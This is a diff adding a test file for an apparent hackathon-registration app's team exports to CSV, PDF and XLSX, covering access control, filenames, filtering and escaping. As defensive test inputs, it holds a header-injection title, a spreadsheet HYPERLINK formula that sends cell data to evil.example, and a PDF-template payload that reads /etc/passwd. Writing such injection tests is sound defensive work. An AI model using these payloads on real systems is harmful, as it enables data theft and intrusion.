@@ -1,0 +1,187 @@
+import { deleteEvent } from '@hackon/contract/events';
+import { exportCsv, exportPdf, exportXlsx } from '@hackon/contract/exports';
+import { decidePayment, type TeamDetail, type TeamFilter, withdrawTeam } from '@hackon/contract/teams';
+import { describe, expect, test, vi } from 'vitest';
+import { signUpManager, signUpStudent } from '../../../test/accounts.ts';
+import { addStudents } from '../../../test/add-students.ts';
+import { createEvent, type NewEventBody } from '../../../test/events.ts';
+import { readCsv } from '../../../test/read-csv.ts';
+import { readXlsx } from '../../../test/read-xlsx.ts';
+import { newMember, type NewTeamBody, registerTeam, startWithEvent } from '../../../test/teams.ts';
+import { requestOf } from '../../../test/test-app.ts';
+
+// A PDF file and a workbook are made by a program, which takes its time to start on a busy machine.
+vi.setConfig({ testTimeout: 30_000 });
+
+/** An event with these teams, each registered one minute after the one before, and its CSV file as rows. */
+async function withTeams(changes: NewTeamBody[], event: NewEventBody = {}) {
+  const started = await startWithEvent({ maxTeams: 100, ...event });
+  const { app, manager } = started;
+  const students = changes.length > 0 ? await addStudents(app, changes.length) : [];
+  const teams: TeamDetail[] = [];
+  for (const [index, student] of students.entries()) {
+    app.clock.advance(60_000);
+    teams.push(await registerTeam(app, student, started.event, changes[index]));
+  }
+  const params = { id: started.event._id };
+  const file = (status?: TeamFilter) =>
+    app.succeed(exportCsv, { token: manager.token, params, query: status ? { status } : {} });
+  const rows = async (status?: TeamFilter) => readCsv(await file(status)).slice(1);
+  const decide = (index: number, status: 'verified' | 'rejected', notes?: string) =>
+    app.succeed(decidePayment, {
+      token: manager.token,
+      params: { teamId: teams[index]?._id ?? '' },
+      body: { status, ...(notes !== undefined && { notes }) },
+    });
+  return { ...started, students, teams, params, file, rows, decide };
+}
+
+describe.each([
+  [exportCsv, 'text/csv; charset=utf-8', 'csv'],
+  [exportPdf, 'application/pdf', 'pdf'],
+  [exportXlsx, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'xlsx'],
+])('$method $path', (endpoint, type, format) => {
+  test("is for the event's own manager", async () => {
+    const { app, params, manager } = await withTeams([]);
+    const [student, other] = [await signUpStudent(app), await signUpManager(app)];
+    const { token } = manager;
+    expect(await app.call(endpoint, { params })).toMatchObject({ status: 401 });
+    expect(await app.call(endpoint, { params, token: student.token })).toMatchObject({ status: 403 });
+    const notFound = { status: 404, body: { message: 'Event not found', code: 'not_found' } };
+    expect(await app.call(endpoint, { params, token: other.token })).toMatchObject(notFound);
+    expect(await app.call(endpoint, { params: { id: 'f'.repeat(24) }, token })).toMatchObject(notFound);
+    expect(await app.call(endpoint, { params: { id: '42' }, token })).toMatchObject({
+      status: 400,
+      body: { message: 'Invalid event ID format' },
+    });
+    const url = endpoint.path.replace(':id', params.id);
+    const headers = { authorization: `Bearer ${token}` };
+    expect(await app.inject({ method: 'GET', url, query: { status: 'unknown' }, headers })).toMatchObject({
+      status: 400,
+      body: { code: 'invalid_input' },
+    });
+    await app.succeed(deleteEvent, { token, params });
+    expect(await app.call(endpoint, { params, token })).toMatchObject(notFound);
+  });
+
+  test('is a file to save, named after title and status, that nobody keeps', async () => {
+    const { app, manager, event, params } = await withTeams([{}]);
+    const { token } = manager;
+    const { status, headers } = await app.call(endpoint, { params, token });
+    expect(status).toBe(200);
+    expect(headers).toMatchObject({
+      'content-type': type,
+      'content-disposition': `attachment; filename="Smart Campus Hack-all-teams.${format}"`,
+      'cache-control': 'no-store',
+    });
+    const verified = { params: { id: event.shareLink }, token, query: { status: 'verified' as const } };
+    expect((await app.call(endpoint, verified)).headers['content-disposition']).toContain(
+      `"Smart Campus Hack-verified-teams.${format}"`,
+    );
+  });
+
+  test('has a name that is safe whatever the title holds', async () => {
+    const { app, manager, params } = await withTeams([], { title: 'AC/DC "लाइव" 🎸\r\nSet-Cookie: a=b' });
+    const { headers } = await app.call(endpoint, { params, token: manager.token });
+    expect(headers['content-disposition']).toMatch(
+      /^attachment; filename="[^"/\\\r\n]*"; filename\*=UTF-8''[^ "]*$/u,
+    );
+    expect(headers['set-cookie']).toBeUndefined();
+  });
+});
+
+describe('GET /api/events/:id/export-csv', () => {
+  test('has a row for each member, newest team first, with instants in the zone of the event', async () => {
+    const { rows, file, decide } = await withTeams([
+      {
+        teamName: 'Null Pointers',
+        members: [newMember('asha'), newMember('ravi')],
+        upiTransactionId: '412345678901',
+      },
+      { teamName: 'Byte Me', members: [newMember('mina')], upiTransactionId: 'CICAgMDw8KqzXw' },
+    ]);
+    await decide(0, 'verified', 'Seen on the statement\nof the 1st');
+    expect(readCsv(await file())[0]).toEqual([
+      'Team Name',
+      'Payment Status',
+      'Transaction ID',
+      'Registered At',
+      'Verified At',
+      'Notes',
+      'Role',
+      'Name',
+      'Email',
+      'Register No.',
+      'Mobile Number',
+    ]);
+    const byteMe = ['Byte Me', 'Pending', 'CICAgMDw8KqzXw', '2026-12-01 12:02:00 +05:30', '', ''];
+    const nullPointers = [
+      'Null Pointers',
+      'Verified',
+      "'412345678901",
+      '2026-12-01 12:01:00 +05:30',
+      '2026-12-01 12:02:00 +05:30',
+      'Seen on the statement\nof the 1st',
+    ];
+    expect(await rows()).toEqual([
+      [...byteMe, 'Team Leader', 'mina', 'mina@student.example', 'REG-mina', '9876543210'],
+      [...nullPointers, 'Team Leader', 'asha', 'asha@student.example', 'REG-asha', '9876543210'],
+      [...nullPointers, 'Member', 'ravi', 'ravi@student.example', 'REG-ravi', '9876543210'],
+    ]);
+  });
+
+  test('has the teams of one payment status, and never a withdrawn one', async () => {
+    const { app, rows, decide, students, teams } = await withTeams(
+      ['A', 'B', 'C', 'D'].map((teamName) => ({ teamName, members: [newMember(teamName)] })),
+    );
+    await decide(0, 'verified');
+    await decide(1, 'rejected');
+    await app.succeed(withdrawTeam, {
+      token: students[3]?.token ?? '',
+      params: { teamId: teams[3]?._id ?? '' },
+    });
+    const names = async (status?: TeamFilter) => (await rows(status)).map(([name]) => name);
+    expect(await names()).toEqual(['C', 'B', 'A']);
+    expect(await names('all')).toEqual(['C', 'B', 'A']);
+    expect(await names('verified')).toEqual(['A']);
+    expect(await names('rejected')).toEqual(['B']);
+    expect(await names('pending')).toEqual(['C']);
+    expect(await names('not_required')).toEqual([]);
+  });
+
+  test("shows nothing of another event's teams", async () => {
+    const { app, manager, rows } = await withTeams([{ teamName: 'Here' }]);
+    const other = await createEvent(app, manager, { title: 'Other' });
+    await registerTeam(app, await signUpStudent(app), other, { teamName: 'There' });
+    expect((await rows()).map(([name]) => name)).toEqual(['Here', 'Here']);
+  });
+
+  test('keeps hostile names in their cells, as text', async () => {
+    const name = '=HYPERLINK("https://evil.example?"&A1,"Open"), +1';
+    const { rows } = await withTeams([{ teamName: name, members: [newMember('asha')] }]);
+    const [row = []] = await rows();
+    expect(row).toHaveLength(11);
+    expect(row[0]).toBe(`'${name}`);
+  });
+});
+
+test('the workbook has the cells of the CSV file, every one as text, without apostrophes', async () => {
+  const { app, manager, params, file } = await withTeams([
+    {
+      teamName: '=1+1 <&> "x"',
+      members: [{ ...newMember('asha'), registerNumber: '007' }, newMember('ravi')],
+      upiTransactionId: '412345678901',
+    },
+    { teamName: 'தமிழ் 🚀' },
+  ]);
+  const { rawPayload } = await app.app.inject(requestOf(exportXlsx, { params, token: manager.token }));
+  const csv = readCsv(await file()).map((row) => row.map((cell) => cell.replace(/^'/u, '')));
+  expect(readXlsx(rawPayload)).toEqual(csv);
+});
+
+test('the PDF file is one', async () => {
+  const { app, manager, params } = await withTeams([{ teamName: '#read("/etc/passwd")' }]);
+  const { rawPayload } = await app.app.inject(requestOf(exportPdf, { params, token: manager.token }));
+  expect(rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
+  expect(rawPayload.subarray(-6).toString()).toContain('%%EOF');
+});
